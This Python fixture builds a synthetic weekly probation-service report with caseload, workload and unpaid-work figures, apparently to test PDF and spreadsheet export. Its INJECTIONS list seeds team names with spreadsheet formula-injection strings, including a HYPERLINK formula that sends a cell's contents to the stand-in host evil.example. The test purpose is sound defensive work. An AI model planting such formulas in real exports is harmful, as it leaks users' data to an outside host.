"""A synthetic weekly return built with the document model, as the returns code will build one.

Every kind of value appears, a percentage on a zero base (``None``), names
that Helvetica cannot print, text cells that a spreadsheet would run as
formulas, and a practitioner table long enough to span PDF pages.
"""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal

from app.domain.report import (
    BarChart,
    Column,
    CoverField,
    Figure,
    Kind,
    Report,
    Section,
    Table,
)

CREATED = datetime(2026, 11, 27, 17, 5, 30, tzinfo=UTC)
WEEK_ENDING = date(2026, 11, 27)
AUDIT_HEAD = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+44 1227 000000",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed team",
    "\rReturned team",
)
"""Team names typed by users that Excel would read as formulas."""
PRACTITIONERS = 130
TIERS = "ABCD"
REASONS = (
    "Weather",
    "No supervisor available",
    "Too few attending",
    "Site unavailable",
    "Vehicle unavailable",
    "Health and safety",
    "Public holiday",
    "Industrial action",
    "Other",
)


def practitioner_name(n: int) -> str:
    first = ("Łukasz", "Zofia", "Siân", "Józef", "Ngozi")[n % 5]
    last = ("Wiśniewski", "Kowalczyńska", "O'Brien", "Nowak-Żółć", "Smith")[n % 5]
    return f"{first} {last} {n:03d}"


def tier_matrix() -> Table:
    columns = [Column("Tier"), *(Column(str(level), Kind.INTEGER) for level in range(4))]
    rows = [[tier, *(10 * t + level + 1 for level in range(4))] for t, tier in enumerate(TIERS)]
    return Table(
        "Tier matrix", columns, rows, note="Unsupervised cases counted in their base tier."
    )


def stand_downs() -> Table:
    return Table.from_mapping(
        "Sessions stood down by reason",
        "Reason",
        "Sessions",
        {reason: (n * 2) % 5 for n, reason in enumerate(REASONS)},
    )


def caseload() -> Section:
    tiers = tier_matrix()
    return Section(
        "Caseload",
        figures=[
            Figure("Active cases", 1234),
            Figure("Started in the week", 17),
            Figure("Ended in the week", 9),
            Figure("Untiered cases", 3),
        ],
        tables=[
            Table.from_mapping(
                "Active cases by sentence type",
                "Sentence type",
                "Cases",
                {"Community order": 700, "Suspended sentence order": 300, "Licence": 234},
            ),
            tiers,
            Table.from_mapping(
                "Cases by RoSH",
                "RoSH",
                "Cases",
                {"Very high": 4, "High": 120, "Medium": 610, "Low": 480, "Not assessed": 20},
            ),
        ],
        charts=[BarChart.from_table("Active cases by tier", tiers, value_title="Cases")],
    )


def allocation() -> Section:
    return Section(
        "Allocation",
        figures=[
            Figure("Due for allocation in the week", 16),
            Figure("Allocated on time", 14),
            Figure("Allocated on time (%)", 87.5, Kind.PERCENTAGE),
            Figure("Unallocated now", 5),
            Figure("Oldest unallocated (working days)", 7),
            Figure("Oldest case sentenced", date(2026, 11, 17), Kind.DATE),
        ],
    )


def workload() -> Section:
    columns = [
        Column("Practitioner"),
        Column("Team"),
        Column("Grade"),
        Column("Cases", Kind.INTEGER),
        Column("Workload points", Kind.DECIMAL),
        Column("Capacity", Kind.PERCENTAGE),
        Column("In post since", Kind.DATE),
    ]
    rows = [
        [
            practitioner_name(n),
            INJECTIONS[n % len(INJECTIONS)] if n < len(INJECTIONS) else f"Team {n % 7 + 1}",
            ("PO", "PSO", "PQiP")[n % 3],
            20 + n % 30,
            Decimal(f"{100 + n}.25"),
            55 + n * 0.5,
            date(2020, 1 + n % 12, 1 + n % 28) if n % 10 else None,
        ]
        for n in range(PRACTITIONERS)
    ]
    return Section(
        "Workload",
        note="Practitioners in post on 27/11/2026; capacity as DOMAIN.md 4.",
        figures=[
            Figure("Practitioners", PRACTITIONERS),
            Figure("Mean capacity", 86.3, Kind.PERCENTAGE),
            Figure("Highest capacity", 124.0, Kind.PERCENTAGE),
            Figure("Mean workload points", Decimal("164.75"), Kind.DECIMAL),
        ],
        tables=[Table("Practitioners", columns, rows)],
    )


def unpaid_work() -> Section:
    reasons = stand_downs()
    return Section(
        "Unpaid work",
        figures=[
            Figure("Active requirements", 210),
            Figure("Hours ordered", Decimal("24150.5"), Kind.HOURS),
            Figure("Hours worked in the week", 612.25, Kind.HOURS),
            Figure("Sessions scheduled", 0),
            Figure("Stand-down rate", None, Kind.PERCENTAGE),
            Figure("Assessed within 10 working days", 91.7, Kind.PERCENTAGE),
        ],
        tables=[reasons],
        charts=[BarChart.from_table("Sessions stood down by reason", reasons)],
    )


def victims() -> Section:
    return Section(
        "Victim liaison",
        note="Counts only: no victim details.",
        figures=[
            Figure("Open cases", 48),
            Figure("Tasks due", 12),
            Figure("First contact on time", 100.0, Kind.PERCENTAGE),
        ],
    )


def sample_report() -> Report:
    return Report(
        "Weekly return: 1. East Kent, week ending 27/11/2026",
        cover=[
            CoverField("PDU", "1. East Kent"),
            CoverField("Week ending", WEEK_ENDING, Kind.DATE),
            CoverField("Built by", "Zofia Kowalczyńska (Head of PDU)"),
            CoverField("Built", datetime(2026, 11, 27, 17, 5), Kind.DATETIME),
            CoverField("Signed off by", None),
            CoverField("Audit head", AUDIT_HEAD),
        ],
        sections=[caseload(), allocation(), workload(), unpaid_work(), victims()],
        author="Zofia Kowalczyńska",
        subject="Weekly return",
    )
